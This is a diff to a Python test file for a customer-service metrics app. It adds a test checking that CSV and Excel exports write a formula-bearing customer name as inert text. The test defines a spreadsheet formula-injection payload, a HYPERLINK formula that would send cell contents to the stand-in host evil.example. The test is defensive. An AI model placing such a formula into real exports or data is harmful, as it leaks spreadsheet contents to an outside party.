@@ -1,10 +1,13 @@
 """Metrics against hand-computed values: SLA, CSAT, NPS, FCR, backlog, volume; exports without a cap."""
 
+import csv
+import io
 from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
+from openpyxl import load_workbook
 
 from atencion import selectors, services
 from atencion.models import Canal, Encuesta, Ticket
@@ -129,3 +132,21 @@ def test_exportaciones_sin_tope(client, datos, pyme, gerente):
 def test_periodos_de_reporte():
     assert selectors.periodo_de_reporte("mensual", date(2026, 11, 15)) == (date(2026, 10, 1), date(2026, 10, 31))
     assert selectors.periodo_de_reporte("semanal", date(2026, 11, 11)) == (date(2026, 11, 2), date(2026, 11, 8))
+
+
+MALICIOSO = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
+
+
+def test_exportaciones_escriben_como_texto_un_nombre_con_formula(client, datos, gerente):
+    Ticket._meta.get_field("cliente").related_model.objects.update(nombre=MALICIOSO)
+    client.force_login(gerente)
+    periodo = {"desde": "2026-11-01", "hasta": "2026-11-30"}
+    respuesta = client.get("/atencion/metricas/exportar.csv", periodo)
+    filas = list(csv.reader(io.StringIO(b"".join(respuesta.streaming_content).decode().lstrip("\ufeff"))))
+    assert {fila[7] for fila in filas[1:]} == {"'" + MALICIOSO}
+    assert all(fila[0].isdigit() for fila in filas[1:])
+    xlsx = client.get("/atencion/metricas/exportar.xlsx", periodo)
+    hoja = load_workbook(io.BytesIO(xlsx.content)).active
+    for fila in hoja.iter_rows(min_row=2):
+        assert (fila[7].value, fila[7].data_type) == ("'" + MALICIOSO, "s")
+        assert isinstance(fila[0].value, int)
